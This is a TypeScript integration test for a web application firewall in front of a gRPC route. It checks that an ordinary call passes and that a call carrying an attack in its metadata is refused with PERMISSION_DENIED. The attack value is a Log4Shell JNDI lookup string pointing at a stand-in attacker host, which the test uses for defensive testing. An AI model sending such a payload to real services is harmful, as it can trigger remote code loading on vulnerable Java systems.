// The WAF on a gRPC route (complete front, h2c both sides, grpc-js client and origin): a call's head is
// inspected (its protobuf messages are not), an ordinary call passes, and a call whose metadata carries an
// attack gets PERMISSION_DENIED, as an access rule's refusal does. Skipped without libmodsecurity.
import { afterAll, beforeAll, expect, it } from 'vitest';
import { native } from '../../../src/native/load.js';
import { EchoClient, type GrpcOrigin, grpc, startGrpcOrigin, unary } from '../../helpers/grpc-origin.js';
import { type L7Proxy, startL7Proxy } from '../../helpers/l7-proxy.js';

let origin: GrpcOrigin;
let proxy: L7Proxy;
// biome-ignore lint/suspicious/noExplicitAny: grpc-js generates the client class at run time.
let client: any;

beforeAll(async () => {
  if (!native.waf.available) return;
  origin = await startGrpcOrigin('waf');
  proxy = await startL7Proxy(
    { FULCRUM_PROTOCOLS: 'all' },
    {
      pools: { grpc: { backends: [`127.0.0.1:${origin.port}`], protocol: 'h2c' } },
      routes: [{ match: {}, pool: 'grpc', waf: { mode: 'block', paranoia: 1 } }],
    },
  );
  client = new EchoClient(`127.0.0.1:${proxy.port}`, grpc.credentials.createInsecure());
}, 30_000);
afterAll(async () => {
  client?.close();
  await proxy?.stop();
  await origin?.stop();
});

it.skipIf(!native.waf.available)('passes an ordinary call and refuses an attack in the metadata with PERMISSION_DENIED', async () => {
  expect((await unary(client, { text: 'hello' })).reply.text).toBe('hello');
  const metadata = new grpc.Metadata();
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is the literal text a Log4j lookup takes.
  metadata.set('x-api-version', '${jndi:ldap://attacker.example/a}');
  const error = await unary(client, { text: 'hello' }, { metadata }).catch((failure: grpc.ServiceError) => failure);
  expect((error as grpc.ServiceError).code).toBe(grpc.status.PERMISSION_DENIED);
  expect(origin.calls).toBe(1);
});
